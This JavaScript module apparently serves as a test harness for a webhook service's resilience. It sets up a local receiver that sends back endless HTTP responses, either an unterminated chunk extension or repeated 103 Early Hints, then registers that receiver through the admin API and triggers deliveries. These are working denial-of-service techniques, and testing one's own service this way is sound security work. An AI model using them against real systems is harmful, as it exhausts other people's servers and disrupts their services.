// Attacks of a webhook receiver: responses that never end and cost processor time.
import { once } from 'node:events';
import { createServer } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { URLSearchParams } from 'node:url';
import { fetch } from 'undici';

/** Sends `start` and then `block` again and again, as fast as the server reads. */
async function startReceiver(start, block) {
  const receiver = createServer((socket) => {
    socket.on('error', () => undefined);
    socket.once('data', () => {
      socket.write(start);
      const send = () => {
        while (!socket.destroyed && socket.write(block));
      };
      socket.on('drain', send);
      send();
    });
    socket.resume();
  });
  receiver.listen(0, '127.0.0.1');
  await once(receiver, 'listening');
  return receiver;
}

async function deliverTo({ baseUrl, token, seconds }, start, block) {
  const receiver = await startReceiver(start, block);
  const hookUrl = `http://127.0.0.1:${receiver.address().port}/`;
  const act = async (path, fields) => {
    const body = new URLSearchParams({ token, ...fields });
    const response = await fetch(`${baseUrl}/admin/services/webhooks/${path}`, { method: 'POST', body });
    return response.json();
  };
  const { webhook } = await act('create', { name: hookUrl, hookUrl, changeTypes: 'Attack' });
  for (let count = 0; count < 8; count += 1) await act('publish', { changeType: 'Attack' });
  await pause(seconds * 1000);
  const list = await fetch(`${baseUrl}/admin/services/webhooks/${webhook.id}/deliveries?token=${token}`);
  const attempts = (await list.json()).deliveries.flatMap(({ attempts: made }) => made);
  await act(`${webhook.id}/delete`, {});
  receiver.close();
  return { attempts: attempts.length };
}

export const receiverAttacks = {
  'receiver with an endless chunk extension': (target) =>
    deliverTo(target, 'HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1;', 'x'.repeat(65_536)),

  'receiver with endless interim responses': (target) =>
    deliverTo(target, '', 'HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n'.repeat(1000)),
};
